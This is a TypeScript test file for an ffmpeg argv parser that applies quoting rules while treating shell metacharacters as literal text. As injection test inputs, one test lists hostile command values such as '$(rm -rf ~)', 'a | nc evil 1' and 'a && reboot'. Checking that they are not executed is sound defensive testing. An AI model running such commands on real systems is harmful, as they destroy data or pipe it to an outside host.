/** The fromShell argv parser: gotgcall's quoting rules, and nothing a shell would do. */
import assert from "node:assert/strict";
import { InvalidParamsError } from "../../src/errors.ts";
import { parseShellArgs } from "../../src/source/shell_args.ts";
import { test } from "../_support/harness.ts";

test("shell args: the seed's examples split as gotgcall documents", () => {
  assert.deepEqual(parseShellArgs('ffmpeg -i "song.mp3"'), [
    "ffmpeg",
    "-i",
    "song.mp3",
  ]);
  assert.deepEqual(
    parseShellArgs('ffmpeg -i "song.mp3" -af "atempo=2.0,atempo=1.25"'),
    ["ffmpeg", "-i", "song.mp3", "-af", "atempo=2.0,atempo=1.25"],
  );
  assert.deepEqual(
    parseShellArgs(
      'ffmpeg -i "music.mp3" -i "ambient.wav" -filter_complex "amix=inputs=2:duration=longest:weights=1 0.3"',
    ),
    [
      "ffmpeg",
      "-i",
      "music.mp3",
      "-i",
      "ambient.wav",
      "-filter_complex",
      "amix=inputs=2:duration=longest:weights=1 0.3",
    ],
  );
  // A Telegram title with embedded quotes: \" is a literal quote.
  assert.deepEqual(parseShellArgs('ffmpeg -i "Song (From \\"Foo\\").mp3"'), [
    "ffmpeg",
    "-i",
    'Song (From "Foo").mp3',
  ]);
  // \\ is a literal backslash; other backslashes stay (ffmpeg parses \r\n itself).
  assert.deepEqual(
    parseShellArgs(
      'ffmpeg -headers "Referer: x\\r\\nCookie: a=b\\r\\n" -i "C:\\\\m.mp3"',
    ),
    [
      "ffmpeg",
      "-headers",
      "Referer: x\\r\\nCookie: a=b\\r\\n",
      "-i",
      "C:\\m.mp3",
    ],
  );
  // Single quotes are apostrophes.
  assert.deepEqual(parseShellArgs("ffmpeg -i Don't_Stop.mp3"), [
    "ffmpeg",
    "-i",
    "Don't_Stop.mp3",
  ]);
  assert.deepEqual(parseShellArgs("ffmpeg -i 'a b'"), [
    "ffmpeg",
    "-i",
    "'a",
    "b'",
  ]);
  // Quotes glue to neighbours; "" is an empty argument; runs of blanks split once.
  assert.deepEqual(parseShellArgs('ffmpeg  -metadata  title="A B"  -x ""'), [
    "ffmpeg",
    "-metadata",
    "title=A B",
    "-x",
    "",
  ]);
});

test("shell args: shell metacharacters are literal text", () => {
  for (
    const hostile of [
      "$(rm -rf ~)",
      "`rm -rf ~`",
      "a; rm -rf ~",
      "a | nc evil 1",
      "a && reboot",
      "$HOME/*.mp3 > /etc/x",
      "~/x",
    ]
  ) {
    const argv = parseShellArgs(`ffmpeg -i "${hostile}"`);
    assert.deepEqual(argv, ["ffmpeg", "-i", hostile]);
  }
  assert.deepEqual(parseShellArgs("ffmpeg -i a;b|c"), [
    "ffmpeg",
    "-i",
    "a;b|c",
  ]);
});

test("shell args: empty commands and unterminated quotes are InvalidParamsError", () => {
  for (const bad of ["", "   ", "\t\n", 'ffmpeg -i "song.mp3']) {
    assert.throws(() => parseShellArgs(bad), InvalidParamsError, bad);
  }
  assert.throws(
    () => parseShellArgs(undefined as unknown as string),
    InvalidParamsError,
  );
});
